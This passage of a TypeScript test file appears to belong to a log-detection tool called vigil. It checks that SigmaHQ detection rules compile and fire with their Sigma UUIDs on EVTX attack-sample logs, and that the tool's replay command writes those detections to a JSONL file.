    const event: VigilEvent = { ...draft, id: `sigma-evtx-${records}`, seq: records, received: Date.now(), source: 'replay', host: draft.host ?? { name: 'sigma-evtx-test' } };
    ruleSet.match(event, (hit) => {
      let f = fired.get(hit.rule.id);
      if (f === undefined) {
        f = { source: hit.source, title: hit.rule.title, records: new Set() };
        fired.set(hit.rule.id, f);
      }
      if (hit.source !== f.source) f.source = `${f.source}|${hit.source}`;
      f.records.add(rec.system.EventRecordID);
    });
  }
  return { records, fired };
}

test('SigmaHQ rules fire with their Sigma UUID on hand-checked EVTX attack samples', async (t) => {
  if (SKIP !== undefined) {
    t.skip(SKIP);
    return;
  }
  // One load of the whole SigmaHQ set, as `vigil replay --sigma` does.
  const loaded = await loadSigmaRules([sigmaDir]);
  const ruleSet = compileRuleSet(loaded.rules);
  assert.ok(loaded.rules.length > 1000, `only ${loaded.rules.length} Sigma rules converted`);
  assert.deepEqual(
    ruleSet.issues.map((i) => `${i.ruleId ?? '?'}: ${i.message}`).slice(0, 5),
    [],
    'every converted Sigma rule compiles',
  );

  for (const c of CASES) {
    await t.test(c.file, async () => {
      for (const e of c.expect) {
        // The expected id really is the `id:` of the named Sigma rule file.
        const yaml = readFileSync(join(sigmaDir, e.rule), 'utf8');
        assert.match(yaml, new RegExp(`^id: ${e.id}\\s*$`, 'm'), `${e.rule} has id ${e.id}`);
        const compiled = ruleSet.get(e.id);
        assert.ok(compiled !== undefined, `Sigma rule ${e.id} (${e.title}) was converted and compiled`);
        assert.equal(compiled.source, 'sigma');
      }
      const { records, fired } = await replayFile(ruleSet, join(samplesDir, c.file));
      assert.ok(records > 0, 'the sample yields records');
      for (const [id, f] of fired) {
        assert.match(id, UUID, `detection rule id ${id} (${f.title}) is a Sigma UUID`);
        assert.equal(f.source, 'sigma', `hits of ${id} carry source sigma`);
      }
      for (const e of c.expect) {
        const f = fired.get(e.id);
        assert.ok(f !== undefined, `${e.title} [${e.id}] fires; fired: ${[...fired.values()].map((x) => x.title).join('; ') || 'nothing'}`);
        assert.equal(f.title, e.title);
        assert.ok(f.records.has(e.record), `${e.title} fires on EventRecordID ${e.record}; fired on ${[...f.records].join(', ')}`);
      }
    });
  }
});

test('vigil replay --sigma writes Sigma detections (rule.id = Sigma UUID, rule.source sigma) to JSONL', (t) => {
  if (SKIP !== undefined) {
    t.skip(SKIP);
    return;
  }
  const c = CASES.find((x) => x.file === CLI_CASE);
  assert.ok(c !== undefined);
  const dir = mkdtempSync(join(tmpdir(), 'vigil-sigma-evtx-'));
  try {
    const config = join(dir, 'vigil.yaml');
    writeFileSync(
      config,
      stringify({
        agent: { data_dir: 'var', stop_timeout_seconds: 3 },
        plugins: {
          ...builtinsOff(),
          // Only the Sigma rules given with --sigma: no native rules in this run.
          'rule-engine': { enabled: true, config: { rule_paths: [], sigma_paths: [] } },
          jsonl: { enabled: true, config: { path: 'out/detections.jsonl' } },
          'alert-store': { enabled: true, config: { path: 'out/alerts.db' } },
        },
      }),
    );
    const out = join(dir, 'cli-detections.jsonl');
    const r = spawnSync(process.execPath, [join(projectRoot(), 'bin', 'vigil.js'), 'replay', join(samplesDir, CLI_CASE), '--sigma', sigmaDir, '--out', out, '--no-progress', '--json', '--config', config], {
      cwd: projectRoot(),
      encoding: 'utf8',
      env: { ...process.env, VIGIL_CONFIG: '' },
    });
    assert.equal(r.status, 0, r.stderr);
    const summary = JSON.parse(r.stdout) as { files: number; detections: number };
    assert.equal(summary.files, 1);
    assert.ok(summary.detections > 0, 'the summary counts detections');

    const detections = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { rule: { id: string; source?: string; title: string }; evidence: Array<{ raw?: Record<string, unknown> }> });
    assert.equal(detections.length, summary.detections);
    for (const d of detections) {
      assert.match(d.rule.id, UUID, `${d.rule.title}: rule.id is a Sigma UUID`);
      assert.equal(d.rule.source, 'sigma');
    }
    for (const e of c.expect) {
      const d = detections.find((x) => x.rule.id === e.id && x.evidence[0]?.raw?.['EventRecordID'] === e.record);
      assert.ok(d !== undefined, `${e.title} [${e.id}] on EventRecordID ${e.record} is in the JSONL output`);
      assert.equal(d.rule.title, e.title);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
